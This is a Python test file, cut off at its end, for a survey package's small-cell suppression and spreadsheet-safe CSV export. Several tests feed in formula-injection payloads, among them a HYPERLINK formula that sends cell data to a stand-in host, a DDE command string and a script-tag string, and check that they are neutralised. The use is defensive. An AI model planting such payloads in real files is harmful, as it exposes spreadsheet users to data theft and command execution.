"""Tests of optamstats.disclosure and of disclosure control in the report.

No outside tool computes cell suppression here (sdcTable and tau-ARGUS are not
installed), so the secondary suppression is checked against an independent criterion:
exact rational linear algebra (fractions.Fraction Gaussian elimination) decides whether
any hidden cell is determined by the published cells and totals.
"""

from __future__ import annotations

import csv
import io
import json
import math
from fractions import Fraction
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from optamstats._checks import InvalidTypeError, InvalidValueError, ShapeError
from optamstats.disclosure import (
    DEFAULT_MIN_CELL,
    FORMULA_TRIGGERS,
    FRENCH_HEALTH_MIN_CELL,
    Hidden,
    SuppressedTable,
    needs_suppression,
    spreadsheet_safe,
    spreadsheet_safe_frame,
    suppress_small_cells,
    write_safe_csv,
)

# --------------------------------------------------------------------------- an oracle


def _rank(rows: list[list[Fraction]]) -> int:
    """Rank of a matrix of Fractions, by exact Gaussian elimination."""
    matrix = [row[:] for row in rows if any(row)]
    rank, width = 0, len(matrix[0]) if matrix else 0
    for col in range(width):
        pivot = next((r for r in range(rank, len(matrix)) if matrix[r][col] != 0), None)
        if pivot is None:
            continue
        matrix[rank], matrix[pivot] = matrix[pivot], matrix[rank]
        for r in range(len(matrix)):
            if r != rank and matrix[r][col] != 0:
                factor = matrix[r][col] / matrix[rank][col]
                matrix[r] = [a - factor * b for a, b in zip(matrix[r], matrix[rank], strict=True)]
        rank += 1
    return rank


def _recoverable(extended: np.ndarray[Any, Any], hidden: np.ndarray[Any, Any]) -> list[Any]:
    """Hidden cells of a table with margins that row/column arithmetic determines exactly.

    `extended` holds the cells and, as its last row and column, the totals. Equations:
    each row's cells sum to its total, each column's cells sum to its total. A hidden
    cell u is determined iff the unit vector e_u lies in the row space of the equations
    restricted to the hidden cells (the shown values only move to the right-hand side).
    """
    if extended.ndim == 1:
        equations = [[1] * (extended.size - 1) + [-1]]
        cells = [(i,) for i in range(extended.size)]
    else:
        r, c = extended.shape
        cells = [(i, j) for i in range(r) for j in range(c)]
        equations = []
        for i in range(r):  # row i: sum of its cells − its total = 0
            equations.append([(1 if j < c - 1 else -1) if a == i else 0 for a, j in cells])
        for j in range(c):
            equations.append([(1 if i < r - 1 else -1) if b == j else 0 for i, b in cells])
    unknown = [k for k, cell in enumerate(cells) if hidden[cell]]
    if not unknown:
        return []
    a = [[Fraction(eq[k]) for k in unknown] for eq in equations]
    base = _rank(a)
    found = []
    for position, k in enumerate(unknown):
        unit = [Fraction(int(p == position)) for p in range(len(unknown))]
        if _rank([*a, unit]) == base:
            found.append(cells[k])
    return found


def _degree_two_heuristic(extended: np.ndarray[Any, Any], min_cell: int) -> np.ndarray[Any, Any]:
    """The naive rule: while a row or column has exactly one hidden cell, hide its smallest."""
    hidden = (extended >= 1) & (extended < min_cell)
    hidden[-1, :] = False
    hidden[:, -1] = False
    changed = True
    while changed:
        changed = False
        for axis in (0, 1):
            lines = hidden if axis == 0 else hidden.T
            values = extended if axis == 0 else extended.T
            for i in range(lines.shape[0]):
                if lines[i].sum() == 1:
                    candidates = np.flatnonzero(~lines[i])
                    j = candidates[np.argmin(values[i, candidates])]
                    lines[i, j] = True
                    changed = True
    return hidden


# --------------------------------------------------------------------------- the rule


def test_defaults_and_french_threshold() -> None:
    assert DEFAULT_MIN_CELL == 5
    assert FRENCH_HEALTH_MIN_CELL == 11
    # Counts 1 to 10 are hidden under the French rule, 11 is shown; 0 names nobody.
    got = needs_suppression(list(range(13)), min_cell=FRENCH_HEALTH_MIN_CELL)
    assert got.tolist() == [False] + [True] * 10 + [False, False]


def test_needs_suppression_checks_the_complement() -> None:
    assert needs_suppression(3) is True
    assert needs_suppression(5) is False
    assert needs_suppression(0, 50) is False
    assert needs_suppression(48, 50) is True  # 2 did not
    assert needs_suppression(45, 50) is False
    assert needs_suppression(50, 50) is False  # all of them: no complement
    assert needs_suppression(np.int64(3), 10) is True
    assert needs_suppression(np.array([1, 7, 9]), 10, min_cell=3).tolist() == [True, False, True]


@given(k=st.integers(0, 200), extra=st.integers(0, 200), t=st.integers(2, 30))
def test_needs_suppression_property(k: int, extra: int, t: int) -> None:
    n = k + extra
    expected = 1 <= k < t or 1 <= n - k < t
    assert needs_suppression(k, n, min_cell=t) is expected
    assert needs_suppression(k, min_cell=t) is (1 <= k < t)


@pytest.mark.parametrize(
    ("kwargs", "error", "message"),
    [
        ({"k": 3, "min_cell": 1}, InvalidValueError, r"`min_cell` must be a whole number of "
         r"respondents from 2 to 2\*\*53, such as 5 .*got 1\. To print every count"),
        ({"k": 3, "min_cell": 2.5}, InvalidValueError, r"`min_cell` must be .*got 2\.5"),
        ({"k": 3, "min_cell": float("nan")}, InvalidValueError, r"`min_cell` must be .*nan"),
        ({"k": 3, "min_cell": True}, InvalidTypeError, r"`min_cell` must be a whole number .*True"),
        ({"k": 3, "min_cell": "5"}, InvalidTypeError, r"`min_cell` must be a whole number .*'5'"),
        ({"k": -1}, InvalidValueError, r"`k` must be a count ≥ 0; got -1"),
        ({"k": 2.5}, InvalidValueError, r"`k` must be a whole number of respondents; got 2\.5"),
        ({"k": "3"}, InvalidTypeError, r"`k` must be an integer count or an array"),
        ({"k": 6, "n": 5}, InvalidValueError, r"`k` must be ≤ `n`; got k=6 > n=5"),
    ],
)  # fmt: skip
def test_needs_suppression_errors(kwargs: dict[str, Any], error: type, message: str) -> None:
    with pytest.raises(error, match=message):
        needs_suppression(**kwargs)


# --------------------------------------------------------------------------- suppression


def test_one_small_cell_hides_a_cheapest_cycle_of_four() -> None:
    t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
    assert isinstance(t, SuppressedTable)
    # Worked by hand: a cycle through (0, 1) must use another row and column. Via
    # column 0 it costs 12 + 15 + 9 = 36, via column 2 20 + 30 + 9 = 59, via the
    # totals more: the cells 12, 15 and 9 are hidden.
    assert t.primary[:2, :3].tolist() == [[False, True, False], [False, False, False]]
    assert sorted(zip(*np.nonzero(t.secondary), strict=True)) == [(0, 0), (1, 0), (1, 1)]
    assert t.counts.tolist() == [[12, 3, 20, 35], [15, 9, 30, 54], [27, 12, 50, 89]]
    shown = t.display()
    assert shown.loc[0, 1] == "< 5"
    assert shown.loc[0, 0] == "s"  # hidden to protect, not small: never "< 5"
    assert shown.loc["Total", "Total"] == "89"
    assert _recoverable(t.counts, t.suppressed) == []
    assert repr(t) == "SuppressedTable(3×4 with margins=True, min_cell=5: 1 primary, 3 secondary)"


def test_no_small_cell_hides_nothing() -> None:
    t = suppress_small_cells([[12, 0, 20], [15, 9, 30]])
    assert t.n_suppressed == 0  # a zero names nobody


def test_one_row_table_hides_the_column_totals_it_needs() -> None:
    # In a single row, each column total equals its cell: the totals must go too.
    t = suppress_small_cells([[1, 10, 10]])
    assert _recoverable(t.counts, t.suppressed) == []
    assert t.suppressed[-1, 0]  # the column total of the small cell
    assert t.display().loc["Total", 0] == "s"


def test_single_cell_table_hides_everything() -> None:
    t = suppress_small_cells([[2]])
    assert t.suppressed.all()
    assert suppress_small_cells([2]).suppressed.all()


def test_one_dimensional_tables() -> None:
    t = suppress_small_cells([2, 10, 30, 0])
    # The small cell and the next cheapest non-zero one; the total stays.
    assert t.status.tolist() == [1, 2, 0, 0, 0]
    assert t.display()["count"].tolist() == ["< 5", "s", "30", "0", "42"]
    assert _recoverable(t.counts, t.suppressed) == []
    # Two small cells protect each other.
    assert suppress_small_cells([2, 3, 30]).status.tolist() == [1, 1, 0, 0]
    # Only zeros beside it: hiding the total is cheaper than hiding a zero.
    assert suppress_small_cells([2, 0]).status.tolist() == [1, 0, 2]


def test_without_margins_only_primary() -> None:
    t = suppress_small_cells([[12, 3, 20], [15, 9, 30]], margins=False)
    assert t.counts.shape == (2, 3)
    assert t.n_suppressed == 1
    with pytest.raises(InvalidValueError, match=r"`by`: shares need published totals"):
        t.proportions()


def test_forced_primary_cells_show_s() -> None:
    k = np.array([48, 20, 30])
    forced = np.asarray(needs_suppression(k, 50))
    t = suppress_small_cells(k, primary=forced)
    assert t.status[0] == 1
    assert t.label(0) == "s"  # 48 is hidden for its complement: "< 5" would be false
    assert isinstance(t.label(0), Hidden)


def test_the_naive_degree_rule_is_not_enough_and_ours_is() -> None:
    # Two blocks of four small cells joined by one more small cell (a bridge): every
    # row and column holds two hidden cells or none, which satisfies the naive rule,
    # yet the bridge is the difference of the two blocks' totals.
    table = np.full((4, 4), 50)
    for i, j in [(0, 0), (0, 1), (1, 0), (1, 1), (2, 2), (2, 3), (3, 2), (3, 3), (0, 2)]:
        table[i, j] = 2
    extended = np.zeros((5, 5), dtype=np.int64)
    extended[:4, :4] = table
    extended[:4, 4] = table.sum(axis=1)
    extended[4, :4] = table.sum(axis=0)
    extended[4, 4] = table.sum()
    naive = _degree_two_heuristic(extended, 5)
    assert all(line.sum() != 1 for line in naive)
    assert all(line.sum() != 1 for line in naive.T)
    assert _recoverable(extended, naive) == [(0, 2)]  # the oracle finds the leak
    ours = suppress_small_cells(table)
    assert _recoverable(ours.counts, ours.suppressed) == []


tables_2d = st.integers(1, 5).flatmap(
    lambda r: st.integers(1, 5).flatmap(
        lambda c: st.lists(
            st.lists(st.one_of(st.integers(0, 6), st.integers(0, 60)), min_size=c, max_size=c),
            min_size=r,
            max_size=r,
        )
    )
)


@given(table=tables_2d, t=st.integers(2, 8))
def test_no_hidden_cell_is_recoverable_2d(table: list[list[int]], t: int) -> None:
    result = suppress_small_cells(table, t)
    cells = np.array(table)
    inner = result.status[:-1, :-1]
    # Primary: exactly the counts from 1 to t − 1.
    assert ((inner == 1) == ((cells >= 1) & (cells < t))).all()
    # The published values are the true ones.
    assert (result.counts[:-1, :-1] == cells).all()
    assert (result.counts[:-1, -1] == cells.sum(axis=1)).all()
    assert result.counts[-1, -1] == cells.sum()
    assert _recoverable(result.counts, result.suppressed) == []
    # Hidden cells are shown as "< t" only when they are small.
    shown = result.display()
    for i, j in zip(*np.nonzero(result.suppressed), strict=True):
        value = int(result.counts[i, j])
        assert shown.iloc[i, j] == (f"< {t}" if result.status[i, j] == 1 else "s")
        assert result.status[i, j] != 1 or 1 <= value < t


@given(cells=st.lists(st.integers(0, 40), min_size=1, max_size=12), t=st.integers(2, 11))
def test_no_hidden_cell_is_recoverable_1d(cells: list[int], t: int) -> None:
    result = suppress_small_cells(cells, t)
    assert _recoverable(result.counts, result.suppressed) == []
    assert ((result.status[:-1] == 1) == [1 <= c < t for c in cells]).all()


def test_labels_of_a_frame_are_kept() -> None:
    frame = pd.DataFrame(
        {"left": [12, 2], "stayed": [30, 40]}, index=pd.Index(["Pédiatrie", "Chirurgie"])
    )
    t = suppress_small_cells(frame)
    assert t.rows == ("Pédiatrie", "Chirurgie", "Total")
    assert t.columns == ("left", "stayed", "Total")
    tidy = t.to_frame()
    assert list(tidy.columns) == ["row", "column", "count", "status", "display"]
    hidden = tidy[tidy["status"] != "shown"]
    assert hidden["count"].isna().all()  # nullable <NA>, never the true count
    assert str(tidy["count"].dtype) == "Int64"
    assert "&lt; 5" in t._repr_html_()
    assert "<table>" in t._repr_html_()
    series = suppress_small_cells(pd.Series([3, 30, 8], index=["a", "b", "c"]))
    assert series.rows == ("a", "b", "c", "Total")


def test_proportions_hide_shares_of_hidden_cells() -> None:
    from optamstats.proportions import proportion

    t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
    shares = t.proportions("row")
    assert not shares.isna().all(axis=None)
    for row in shares.itertuples():
        hidden = t.suppressed[row.row, row.column]
        if hidden:
            assert row.estimate is pd.NA
            assert row.low is pd.NA
            assert row.high is pd.NA
            assert row.k is pd.NA
        else:
            r = proportion(int(row.k), int(row.n))
            assert (row.estimate, row.low, row.high) == (r.estimate, r.low, r.high)
    by_column = t.proportions("column")
    assert by_column.loc[by_column["column"] == 2, "n"].tolist() == [50, 50]
    # No float NaN anywhere: hidden values are pd.NA in nullable columns.
    for name in ("estimate", "low", "high"):
        assert str(shares[name].dtype) == "Float64"


def test_proportions_hide_a_whole_row_whose_total_is_hidden() -> None:
    t = suppress_small_cells([[1, 10, 10]])
    shares = t.proportions("column")
    # Columns 0 and 1 have hidden totals: their shares would give the totals back.
    assert shares.loc[shares["column"] == 0, "estimate"].isna().all()
    assert shares.loc[shares["column"] == 1, "estimate"].isna().all()
    assert shares.loc[shares["column"] == 2, "estimate"].tolist() == [1.0]
    one_d = suppress_small_cells([2, 10, 30]).proportions("total")
    assert one_d["estimate"].isna().tolist() == [True, True, False]
    assert one_d["estimate"].iloc[2] == 30 / 42


@pytest.mark.parametrize(
    ("counts", "kwargs", "error", "message"),
    [
        ([[1, 2], [3]], {}, ShapeError, r"`counts` must be rectangular"),
        ([[[1]]], {}, ShapeError, r"`counts` must be a 1-D or 2-D table of counts; got 3 dim"),
        ([], {}, ShapeError, r"`counts` must hold at least one cell; got shape \(0,\)"),
        ([[1, -2]], {}, InvalidValueError, r"`counts` must hold counts from 0 to 2\*\*53; "
         r"got -2 at \(0, 1\)"),
        ([1.5], {}, InvalidValueError, r"`counts` must hold whole numbers of respondents; got "
         r"1\.5 at 0\. Suppression applies to counts"),
        ([float("nan")], {}, InvalidValueError, r"`counts` must hold whole numbers .*nan at 0"),
        ([True], {}, InvalidTypeError, r"`counts` must hold whole numbers of respondents, not "
         r"booleans; got True at 0"),
        (["3"], {}, InvalidTypeError, r"`counts` must hold whole numbers of respondents; got '3'"),
        ("123", {}, InvalidTypeError, r"`counts` must be a table of counts .*got '123'"),
        (5, {}, InvalidTypeError, r"`counts` must be a table of counts .*got 5"),
        ([1, 2], {"margins": "yes"}, InvalidTypeError, r"`margins` must be True or False"),
        ([1, 2], {"primary": [1, 0]}, InvalidTypeError, r"`primary` must be a boolean mask"),
        ([1, 2], {"primary": [True]}, ShapeError, r"`primary` must have the table's shape "
         r"\(2,\); got \(1,\)"),
        ([1, 2], {"min_cell": 0}, InvalidValueError, r"`min_cell` must be a whole number"),
    ],
)  # fmt: skip
def test_suppression_errors(counts: Any, kwargs: dict[str, Any], error: type, message: str) -> None:
    with pytest.raises(error, match=message):
        suppress_small_cells(counts, **kwargs)


def test_proportions_and_display_errors() -> None:
    t = suppress_small_cells([[12, 3], [15, 9]])
    with pytest.raises(InvalidValueError, match=r"`by` must be one of 'row', 'column', 'total'"):
        t.proportions("cell")
    with pytest.raises(InvalidValueError, match=r"`lang` must be one of 'en', 'fr'"):
        t.display("de")
    assert suppress_small_cells([1200, 3000]).display("fr")["count"].tolist() == [
        "1\u202f200", "3\u202f000", "4\u202f200"
    ]  # fmt: skip


# --------------------------------------------------------------------------- safe exports


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_neutralised(trigger: str) -> None:
    text = trigger + 'HYPERLINK("http://evil.example/?"&A1)'
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "-3 + cmd", "=cmd|' /C calc'!A0", " =1+1",
     "\u00a0@x", "-", "+", "-inf", "-nan", "--3", "-3-", "-1e5+1", "\t-3", "-3\n=1"],
)  # fmt: skip
def test_formulas_are_neutralised(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-3", "-3.5", "-3,5", "+2", "-0.001", "-1e-3", "+2.5E+10", "-1 234,5", "-1\u202f234",
     "-.5", " -3", "Pédiatrie", "", "'=already", "a=b", "3-2", -3, -3.5, np.int64(-3),
     np.float64(-2.5), True, None, float("-inf")],
)  # fmt: skip
def test_numbers_and_plain_text_are_unchanged(value: Any) -> None:
    assert spreadsheet_safe(value) is value


@given(st.text())
def test_spreadsheet_safe_properties(text: str) -> None:
    out = spreadsheet_safe(text)
    assert out in (text, "'" + text)
    assert spreadsheet_safe(out) == out  # idempotent
    stripped = out.lstrip(" \u00a0\u202f\u2007\u2009\ufeff")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        # Only a plain signed number may still start with a sign.
        assert out == text
        float(stripped.strip().replace(",", ".").replace(" ", "").replace("\u00a0", "")
              .replace("\u202f", ""))  # fmt: skip


def test_safe_frame_neutralises_cells_and_labels() -> None:
    frame = pd.DataFrame(
        {"=HYPERLINK(1)": ["=1+1", "-3", None], "n": [-3, 4, 5], "x": [0.5, -0.25, 1.0]},
        index=pd.Index(["@a", "b", "-2"]),
    )
    safe = spreadsheet_safe_frame(frame)
    assert list(safe.columns) == ["'=HYPERLINK(1)", "n", "x"]
    assert list(safe.index) == ["'@a", "b", "-2"]
    assert safe.iloc[:, 0].tolist()[:2] == ["'=1+1", "-3"]
    assert pd.isna(safe.iloc[2, 0])
    assert safe["n"].tolist() == [-3, 4, 5]  # numbers untouched
    assert safe["n"].dtype == frame["n"].dtype
    assert frame.iloc[0, 0] == "=1+1"  # the input is not modified
    with pytest.raises(InvalidTypeError, match=r"`frame` must be a pandas DataFrame"):
        spreadsheet_safe_frame([[1]])  # type: ignore[arg-type]


def test_write_safe_csv_round_trip(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "answer": ['=HYPERLINK("http://evil.example","clic")', "-3 + cmd", "-3", "ok", None],
            "n": [-3, 0, 12, 2**40, 7],
            "share": [-0.5, float("nan"), 0.125, float("inf"), float("-inf")],
            "marker": [Hidden.below(5), Hidden.protecting(), "x", "y", "z"],
        }
    )
    path = write_safe_csv(frame, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for Excel
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["answer", "n", "share", "marker"]
    assert [r[0] for r in rows[1:]] == [
        "'=HYPERLINK(\"http://evil.example\",\"clic\")", "'-3 + cmd", "-3", "ok", ""
    ]  # fmt: skip
    assert [int(r[1]) for r in rows[1:]] == [-3, 0, 12, 2**40, 7]  # numbers unchanged
    assert [r[2] for r in rows[1:]] == ["-0.5", "", "0.125", "inf", "'-inf"]
    assert [r[3] for r in rows[1:]] == ["< 5", "s", "x", "y", "z"]
    # Numbers are written unquoted, text quoted (RFC 4180).
    assert '\r\n"\'-3 + cmd",0,"","s"\r\n' in raw.decode("utf-8-sig")
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'")


def test_write_safe_csv_options_and_errors(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]}, index=pd.Index(["=x"], name="-key"))
    path = write_safe_csv(frame, tmp_path / "f.csv", sep=";", encoding="utf-8", index=True)
    assert path.read_bytes().decode("utf-8") == '"\'-key";"a"\r\n"\'=x";1\r\n'
    with pytest.raises(InvalidValueError, match=r"`sep` must be one character other than"):
        write_safe_csv(frame, tmp_path / "g.csv", sep='"')
    with pytest.raises(InvalidValueError, match=r"`encoding` must be an encoding Python knows"):
        write_safe_csv(frame, tmp_path / "g.csv", encoding="klingon")
    with pytest.raises(InvalidTypeError, match=r"`frame` must be a pandas DataFrame"):
        write_safe_csv({"a": [1]}, tmp_path / "g.csv")  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.csv"]


def test_write_safe_csv_is_all_or_nothing(tmp_path: Path) -> None:
    class Exploding:
        def __str__(self) -> str:
            raise RuntimeError("cannot format")

    (tmp_path / "out.csv").write_text("previous", encoding="utf-8")
    frame = pd.DataFrame({"a": ["fine", Exploding()]})
    with pytest.raises(RuntimeError, match="cannot format"):
        write_safe_csv(frame, tmp_path / "out.csv")
    # The old file is intact and no temporary file is left.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    assert (tmp_path / "out.csv").read_text("utf-8") == "previous"


# --------------------------------------------------------------------------- the report


@pytest.fixture(scope="module")
def synthetic_frame() -> pd.DataFrame:
    from optamstats.datasets import optam_2025_synthetic_export

    return optam_2025_synthetic_export().frame()


@pytest.fixture(scope="module")
def spec() -> Any:
    from optamstats.datasets import optam_2025_synthetic_export

    return optam_2025_synthetic_export().spec


def _report(frame: pd.DataFrame, spec: Any, **kwargs: Any) -> Any:
    from optamstats.report.build import build_report, survey_counts_from_export

    free = kwargs.pop("collect_free_text", kwargs.get("include_free_text", False))
    counts = survey_counts_from_export(frame, spec, lang="en", include_free_text=free)
    return build_report(counts, lang="en", **kwargs)


def test_published_aggregates_are_shown_as_published() -> None:
    from optamstats.report import build_report, render

    report = build_report(lang="en")
    assert report.results["disclosure"] == {
        "control": True, "min_cell": 5, "published_aggregates": True, "withheld": [],
        "free_text": False,
    }  # fmt: skip
    text = render(report, "text")
    assert "< 5" not in text
    themes = next(t for s in report.sections for t in s.tables if t.key == "themes")
    assert "shown as the survey's authors published them" in themes.note
    assert any(row[2] == 3 for row in themes.rows)  # the published 3 is kept
    proportions = next(t for s in report.sections for t in s.tables if t.key == "proportions")
    assert proportions.note == ""
    # The audit of the published figures is untouched by disclosure control.
    off = build_report(lang="en", disclosure_control=False)
    assert off.results["audit"] == report.results["audit"]
    assert off.results["funnel"] == report.results["funnel"]


@pytest.mark.parametrize("fmt", ["text", "markdown", "html", "json"])
def test_no_disclosure_control_is_printed(fmt: str) -> None:
    from optamstats.report import build_report, render

    out = render(build_report(lang="en", disclosure_control=False), fmt)
    assert "--no-disclosure-control" in out
    assert "counts from 1 to 4 are printed" in " ".join(out.split())
    fr = render(build_report(lang="fr", disclosure_control=False, min_cell=11), fmt)
    assert "--no-disclosure-control" in fr
    assert "de 1 à 10" in " ".join(fr.split())
    assert "--no-disclosure-control" not in render(build_report(lang="en"), fmt)


def test_cli_flags(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from optamstats.cli import main

    assert main(["report", "--lang", "en", "--no-disclosure-control"]) == 0
    assert "Disclosure control OFF (--no-disclosure-control)" in capsys.readouterr().out
    assert main(["report", "--lang", "en", "--min-cell", "11", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["results"]["disclosure"]["min_cell"] == 11
    assert main(["report", "--min-cell", "7", "--no-disclosure-control"]) == 2
    assert "pass one or the other" in capsys.readouterr().err
    assert main(["report", "--csv"]) == 2
    assert "`--csv` writes the tables into the `--output` folder" in capsys.readouterr().err
    with pytest.raises(SystemExit) as info:
        main(["report", "--min-cell", "1"])
    assert info.value.code == 2
    assert "expected a whole number of respondents >= 2" in capsys.readouterr().err


def test_export_report_hides_small_counts(synthetic_frame: pd.DataFrame, spec: Any) -> None:
    from optamstats.report import render

    report = _report(synthetic_frame, spec, min_cell=20)
    leavers = next(t for s in report.sections for t in s.tables if t.key == "motives-motives")
    shown = {row[0]: row for row in leavers.rows}
    # 17 and 13 of 50 are below 20; 43, 39 and 38 of 50 leave 7, 11 and 12 who did not.
    assert shown["Désaccord politique"][1] == "s"
    assert shown["Volonté de liberté / rejet des contraintes administratives"][1] == "< 20"
    assert shown["Soutien à un mouvement collectif de confrères"][1] == 25
    hidden_rows = [row for row in leavers.rows if isinstance(row[1], Hidden)]
    assert len(hidden_rows) == 5
    for row in hidden_rows:
        assert row[2] == 50  # the base is shown
        assert all(v == "s" for v in row[3:])  # shares, bounds, rank: hidden
    assert leavers.rows[-5:] == tuple(hidden_rows)  # hidden rows go last
    assert "< 20: fewer than 20 respondents" in leavers.note
    # JSON: the record keeps the option and base, not the count or its share.
    table = report.results["motives"][0]["table"]
    hidden = [r for r in table if r["suppressed"]]
    assert len(hidden) == 5
    assert all(r["mentions"] is None for r in hidden)
    assert all(r["k"] is None and r["estimate"] is None for r in hidden)
    text = render(report, "text")
    assert "43" not in text.split("Reasons for leaving")[1].split("Reasons of those")[0]


def test_export_report_json_still_validates(synthetic_frame: pd.DataFrame, spec: Any) -> None:
    import jsonschema

    from optamstats.report import render

    schema = json.loads(
        (Path(__file__).parents[1] / "docs" / "report-schema.json").read_text("utf-8")
    )
    for min_cell in (5, 20, 60):
        data = json.loads(render(_report(synthetic_frame, spec, min_cell=min_cell), "json"))
        jsonschema.validate(data, schema, cls=jsonschema.Draft202012Validator)


def test_withheld_counts_propagate_to_what_depends_on_them(
    synthetic_frame: pd.DataFrame, spec: Any
) -> None:
    # 69 members had not left: at min_cell = 70 the "left" row (50 of 119, 69 stayed)
    # is hidden for its complement, and so is everything asked only of leavers or of
    # those who stayed: a base defined by "left" gives the count back by difference.
    report = _report(synthetic_frame, spec, min_cell=70)
    assert report.results["disclosure"]["withheld"] == ["left", "member", "plans_to_leave"]
    assert "funnel" not in report.results
    funnel = next(s for s in report.sections if s.key == "funnel")
    assert funnel.tables == ()
    assert "Withheld" in funnel.paragraphs[0]
    assert [s.key for s in report.sections].count("claim") == 0
    assert "funnel" not in report.figures
    # One section per multi-select question: both withheld, with no table nor figure.
    for key in ("q-motives", "q-plan_motives"):
        motives = next(s for s in report.sections if s.key == key)
        assert motives.tables == ()
        assert len(motives.paragraphs) == 1
        assert key not in report.figures
    rows = next(t for s in report.sections for t in s.tables if t.key == "proportions").rows
    plan = next(r for r in rows if r[0] == "Plans to leave within 3 months")
    assert plan[1] == "< 70"  # 41 < 70 is true
    assert plan[2:6] == ("s", "s", "s", "s")  # even its base, n = 69 = 119 − 50
    assert set(report.results["proportions"]) == set()


def test_dependency_withholding_on_hand_made_counts() -> None:
    import pandas as pd

    from optamstats.report.build import (
        MotiveQuestion,
        ProportionRow,
        SurveyCounts,
        build_report,
    )

    motive = pd.DataFrame({"option": ["a", "b"], "mentions": [3, 3], "respondents": [3, 3],
                           "pct_respondents": [100.0, 100.0], "low": [40.0, 40.0],
                           "high": [100.0, 100.0], "pct_mentions": [50.0, 50.0],
                           "rank_low": pd.array([pd.NA, pd.NA], dtype="Int64"),
                           "rank_high": pd.array([pd.NA, pd.NA], dtype="Int64")})  # fmt: skip
    counts = SurveyCounts(
        title="T",
        flow=(("start", "rows", None, 100), ("keep", "out", 0, 100)),
        proportions=(
            ProportionRow("left", "Left", 3, 100, "members"),
            ProportionRow("plan", "Plan", 40, 97, "not left", ("left",)),
            ProportionRow("other", "Other", 30, 100, "members"),
        ),
        funnel=(3, 40, 57, 0),
        funnel_keys=("left", "plan"),
        motives=(MotiveQuestion("why", "Why", motive, depends_on=("left",)),),
    )
    report = build_report(counts, lang="en")
    rows = next(t for s in report.sections for t in s.tables if t.key == "proportions").rows
    assert rows[0][1:3] == ("< 5", 100)  # own small count: the base is shown
    assert rows[1][1:3] == ("s", "s")  # base = 100 − left: hidden
    assert rows[2][1:3] == (30, 100)
    assert report.results["disclosure"]["withheld"] == ["left", "plan"]
    assert set(report.results["proportions"]) == {"other"}
    assert "funnel" not in report.results
    assert report.results["motives"][0] == {"key": "why", "title": "Why", "table": [],
                                            "withheld": True}  # fmt: skip
    off = build_report(counts, lang="en", disclosure_control=False)
    assert off.results["funnel"]["counts"]["left"] == 3
    assert set(off.results["proportions"]) == {"left", "plan", "other"}


def test_forest_plot_leaves_out_hidden_options(synthetic_frame: pd.DataFrame, spec: Any) -> None:
    report = _report(synthetic_frame, spec, min_cell=20)
    figure = report.figures["q-motives"]()
    labels = [t.get_text().replace("\n", " ") for t in figure.axes[0].get_yticklabels()]
    assert len(labels) == 2
    assert not any("Désaccord politique" in label for label in labels)


def test_free_text_never_printed_by_default(synthetic_frame: pd.DataFrame, spec: Any) -> None:
    from optamstats.report import render

    collected = _report(synthetic_frame, spec, collect_free_text=True)
    for fmt in ("text", "markdown", "json", "html"):
        assert "Réponse libre synthétique" not in render(collected, fmt)
    assert "free-text" not in [s.key for s in collected.sections]


def test_free_text_when_asked(synthetic_frame: pd.DataFrame, spec: Any) -> None:
    from optamstats.report import render

    frame = synthetic_frame.copy()
    column = "Quels changements attendez-vous ?"
    answered = frame.index[frame[column] != ""]
    frame.loc[answered[0], column] = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    frame.loc[answered[1], column] = "<script>alert(1)</script>\x1b[31m rouge\u202e"
    frame.loc[answered[2], column] = "Ligne 1\nLigne 2 | pipe"
    report = _report(frame, spec, include_free_text=True)
    assert any("--include-free-text" in note for note in report.notes)
    section = next(s for s in report.sections if s.key == "free-text")
    changes = next(t for t in section.tables if t.key == "free-text-changes")
    answers = [row[0] for row in changes.rows]
    assert answers == sorted(answers, key=lambda a: (a.casefold(), a))
    assert "<script>alert(1)</script>[31m rouge" in answers  # control characters dropped
    assert "Ligne 1 Ligne 2 | pipe" in answers
    assert all(row[1] == "< 5" for row in changes.rows)  # each answer given < 5 times
    assert "answers; distinct answers in alphabetical order" in changes.note
    md = render(report, "markdown")
    assert "<script>" not in md
    assert "&lt;script>alert(1)&lt;/script>" in md
    assert "Ligne 1 Ligne 2 \\| pipe" in md
    assert "<script>" not in render(report, "html")
    # The "Other" texts of the multi-select question (16 answers) pass 5, not 20.
    other = next(t for t in section.tables if t.key == "free-text-plan_motives-other")
    assert other.rows
    strict = _report(frame, spec, include_free_text=True, min_cell=20)
    strict_section = next(s for s in strict.sections if s.key == "free-text")
    assert [t.key for t in strict_section.tables] == ["free-text-changes"]
    assert "withheld (fewer than 20 answers" in strict_section.paragraphs[0]
    off = _report(frame, spec, include_free_text=True, disclosure_control=False)
    off_table = next(t for s in off.sections for t in s.tables if t.key == "free-text-changes")
    assert {row[1] for row in off_table.rows} <= {1, 2, 3, 4}  # counts printed


def test_cli_free_text_and_csv_tables(tmp_path: Path, synthetic_frame: pd.DataFrame) -> None:
    from optamstats.cli import main
    from optamstats.datasets import optam_2025_synthetic_export

    export = optam_2025_synthetic_export()
    csv_text = export.csv.replace(
        "Réponse libre synthétique n° 1\r\n", '"=HYPERLINK(""http://evil.example"",""x"")"\r\n', 1
    )
    assert csv_text != export.csv
    (tmp_path / "e.csv").write_text(csv_text, encoding="utf-8")
    (tmp_path / "s.toml").write_text(export.spec_text, encoding="utf-8")
    out = tmp_path / "out"
    argv = [
        "report",
        "--responses",
